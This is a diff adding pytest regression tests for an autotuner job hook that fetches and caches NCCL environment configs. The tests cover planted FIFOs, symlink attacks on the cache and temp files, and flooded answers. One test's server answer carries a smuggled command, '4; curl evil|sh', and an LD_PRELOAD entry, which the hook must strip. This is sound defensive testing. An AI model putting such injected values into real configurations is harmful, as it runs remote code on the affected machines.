@@ -302,3 +302,121 @@ def test_exec_without_a_cluster_runs_the_command(tmp_path):
                           capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
     assert (proc.returncode, proc.stdout) == (0, "ran\n"), proc.stderr
     assert "--cluster and --workload are required" in proc.stderr
+
+
+# ---------------------------------------------------------------- the cache and the job's own environment
+
+
+def served_then_down(tmp_path: Path, serve) -> tuple[str, Path]:
+    """A config cached from a good answer, then the service gone: (its URL, the cache file)."""
+    server = serve({"exports": GOOD})
+    assert hook(tmp_path, server.url).returncode == 0
+    (cache,) = cached_files(tmp_path)
+    server.close()
+    return server.url, cache
+
+
+@pytest.mark.parametrize("plant", ["fifo", "dev-zero", "big", "other-user"])
+def test_a_cache_that_is_not_a_small_file_of_ours_is_not_read(tmp_path, serve, plant):
+    """A FIFO at the cache path hung the job for ever; a link to /dev/zero read until memory ran out."""
+    url, cache = served_then_down(tmp_path, serve)
+    cache.unlink()
+    if plant == "fifo":
+        os.mkfifo(cache)
+    elif plant == "dev-zero":
+        cache.symlink_to("/dev/zero")
+    elif plant == "big":
+        cache.write_text(json.dumps({"exports": GOOD, "pad": "x" * (64 << 10)}))
+    else:
+        if os.geteuid() != 0:
+            pytest.skip("making a file of another user's needs root (CI runs as root)")
+        cache.write_text(json.dumps({"exports": GOOD}))
+        os.chown(cache, 54321, 54321)
+    proc = hook(tmp_path, url)
+    assert (proc.returncode, proc.stdout) == (0, ""), proc.stderr
+    assert "the cached config is not usable" in proc.stderr
+
+
+def test_the_cache_is_written_under_a_name_no_one_can_plant_a_link_at(tmp_path, serve, monkeypatch):
+    """The temporary file was `<key>.tmp<pid>`, written through any link found there: another user
+    who planted links for the coming pids had the hook overwrite a file of the victim's."""
+    from autotuner.job import hook as hook_module
+
+    monkeypatch.setenv("AUTOTUNER_CACHE_DIR", str(tmp_path / "cache"))
+    monkeypatch.setattr(os, "getpid", lambda: 4242)
+    victim = tmp_path / "victim"
+    victim.write_text("important\n")
+    server = serve({"exports": GOOD})
+    args = hook_module.parser("autotuner env").parse_args(
+        ["--server", server.url, "--cluster", "c", "--workload", "w", "--timeout", "10"]
+    )
+    cache = hook_module._cache_path(server.url, "c", "w", None)
+    cache.parent.mkdir(parents=True)
+    cache.with_suffix(".tmp4242").symlink_to(victim)
+    config, _ = hook_module.resolve(args)
+    assert config["exports"]["NCCL_NSOCKS_PERTHREAD"] == "4"
+    assert victim.read_text() == "important\n"
+    assert json.loads(cache.read_text())["exports"] == GOOD
+
+
+def test_the_env_map_of_an_answer_carries_only_checked_values(tmp_path, serve):
+    server = serve({"exports": GOOD, "env": {"NCCL_NSOCKS_PERTHREAD": "4; curl evil|sh", "LD_PRELOAD": "/x"}})
+    proc = hook(tmp_path, server.url, "--format", "json")
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads(proc.stdout)["env"] == {"NCCL_NSOCKS_PERTHREAD": "4"}
+    (cache,) = cached_files(tmp_path)
+    assert json.loads(cache.read_text())["env"] == {"NCCL_NSOCKS_PERTHREAD": "4"}
+
+
+def test_a_flood_of_exports_is_a_malformed_answer(tmp_path, serve):
+    """30,000 near-miss names were checked one by one, each with its did-you-mean: 4.5 s per job."""
+    flood = {f"NCCL_SOCKET_NTHREADX{i}": "1" for i in range(30_000)}
+    server = serve({"exports": {**GOOD, **flood}})
+    proc = hook(tmp_path, server.url)
+    assert (proc.returncode, proc.stdout.count("export ")) == (0, 0), proc.stderr[-500:]
+    assert "30003 entries (a config has at most 256)" in proc.stderr
+    assert len(proc.stderr) < 2000
+
+
+def test_without_a_server_the_hook_reads_no_store(tmp_path):
+    """It opened (and created) the default SQLite store, or hung on an unanswering database URL."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
+    env.update(HOME=str(tmp_path), XDG_DATA_HOME=str(tmp_path / "data"),
+               AUTOTUNER_DATABASE_URL="postgresql+psycopg://u:p@127.0.0.1:9/db")  # fmt: skip
+    proc = subprocess.run([sys.executable, "-m", "autotuner", "env", "--cluster", "c", "--workload", "w"],
+                          capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
+    assert (proc.returncode, proc.stdout) == (0, ""), proc.stderr
+    assert "no config service set (--server or AUTOTUNER_SERVER)" in proc.stderr
+    assert list(tmp_path.rglob("*.db")) == []
+
+
+@pytest.mark.parametrize("where", ["relative", "no-home"])
+def test_no_cache_lands_in_the_jobs_working_directory(tmp_path, serve, where):
+    server = serve({"exports": GOOD})
+    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_") and k != "HOME"}
+    env.pop("XDG_CACHE_HOME", None)
+    if where == "relative":
+        env["AUTOTUNER_CACHE_DIR"] = "cache"
+    job = tmp_path / "job"
+    job.mkdir()
+    cmd = [
+        sys.executable,
+        "-m",
+        "autotuner",
+        "env",
+        "--server",
+        server.url,
+        "--cluster",
+        "c",
+        "--workload",
+        "w",
+    ]
+    if where == "no-home":  # a uid with no passwd entry: `~` stays `~`
+        cmd = ["setpriv", "--reuid", "54321", "--regid", "54321", "--clear-groups", *cmd]
+        if os.geteuid() != 0:
+            pytest.skip("running as a uid without a passwd entry needs root (CI runs as root)")
+        job.chmod(0o777)
+    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env, cwd=job)
+    assert proc.returncode == 0, proc.stderr
+    assert "export NCCL_NSOCKS_PERTHREAD=4" in proc.stdout
+    assert list(job.rglob("*")) == []
